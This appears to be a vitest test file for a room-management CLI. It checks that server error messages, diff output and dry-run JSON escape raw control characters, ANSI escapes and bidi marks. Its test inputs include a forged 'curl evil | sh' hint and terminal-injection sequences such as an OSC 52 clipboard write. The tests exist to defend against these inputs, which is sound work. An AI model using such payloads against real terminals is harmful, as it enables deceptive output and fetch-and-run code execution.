/* eslint-disable no-control-regex -- these tests look for raw control characters */
import { Chalk } from 'chalk';
import { describe, expect, it } from 'vitest';
import { renderDiff } from '../../src/commands/room/apply-diff.js';
import type { PlanItem } from '../../src/commands/room/apply-plan.js';
import { ApiError, NetworkError, UsageError } from '../../src/lib/errors.js';
import { renderError } from '../../src/output/error-block.js';

const RAW =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const failure = { status: 400, method: 'GET', path: '/rooms', result: '50002', apiMessage: 'x' };

describe('renderError', () => {
  it('an API failure stays on one line: the server cannot forge a hint', () => {
    const text = renderError(
      new ApiError('GET /rooms: Failed\nHint: curl evil | sh\u001b[2K', failure, 1, 'Try later.'),
    );
    expect(text).toBe('Error: GET /rooms: Failed\\x0aHint: curl evil | sh\\x1b[2K\nHint: Try later.\n');
  });

  it('a network failure quoting a page stays on one line too', () => {
    expect(renderError(new NetworkError('502 page: <h1>\r\nBad</h1>'))).toBe(
      'Error: 502 page: <h1>\\x0d\\x0aBad</h1>\n',
    );
  });

  it("the CLI's own multi-line message keeps its lines, with control characters escaped", () => {
    const text = renderError(
      new UsageError('room.yaml has 2 problems:\n  - rooms[0] "a\u001b]0;t\u0007"\n  - rooms[1]'),
    );
    expect(text).toBe('Error: room.yaml has 2 problems:\n  - rooms[0] "a\\x1b]0;t\\x07"\n  - rooms[1]\n');
  });

  it('colour is added after escaping', () => {
    const red = (s: string) => `\u001b[31m${s}\u001b[39m`;
    const text = renderError(new UsageError('bad \u001b[8mhidden'), { red });
    expect(text).toBe('\u001b[31mError:\u001b[39m bad \\x1b[8mhidden\n');
  });
});

describe('room apply diff', () => {
  it('live names, owner_refs, ids and values from the server are shown escaped', () => {
    const plan: PlanItem[] = [
      {
        action: 'update',
        name: 'Town\u001b[2J hall\u202e',
        owner_ref: 'hr\r\u001b]52;c;eA==\u0007',
        room_id: 'id\u001b[H',
        changes: [{ key: 'settings.description', from: 'old\u009b2J', to: 'new' }],
      },
    ];
    for (const level of [0, 1] as const) {
      const text = renderDiff(plan, new Chalk({ level }), { replace: false });
      expect(text.replace(/\u001b\[\d+m/g, '')).not.toMatch(RAW);
    }
    const plain = renderDiff(plan, new Chalk({ level: 0 }), { replace: false });
    expect(plain).toContain(
      '~ update "Town\\u001b[2J hall\\u202e" (owner_ref hr\\x0d\\x1b]52;c;eA==\\x07) id\\x1b[H',
    );
    expect(plain).toContain('settings.description: "old\\u009b2J" -> "new"');
  });
});

describe('room create --dry-run', () => {
  it('prints the body as exact JSON with no raw C1 or bidi control (a --file may come from room export)', async () => {
    const { runCli } = await import('../helpers/cli.js');
    const r = await runCli(['room', 'create', '-f', '-', '--dry-run'], {
      stdin: JSON.stringify({ name: 'a\u009b2J\u202e', owner_ref: 'o\u001b[2J' }),
    });
    expect(r.code).toBe(0);
    expect(r.stdout.replace(/\n/g, '')).not.toMatch(RAW);
    expect(JSON.parse(r.stdout).body).toEqual({ name: 'a\u009b2J\u202e', owner_ref: 'o\u001b[2J' });
  });
});
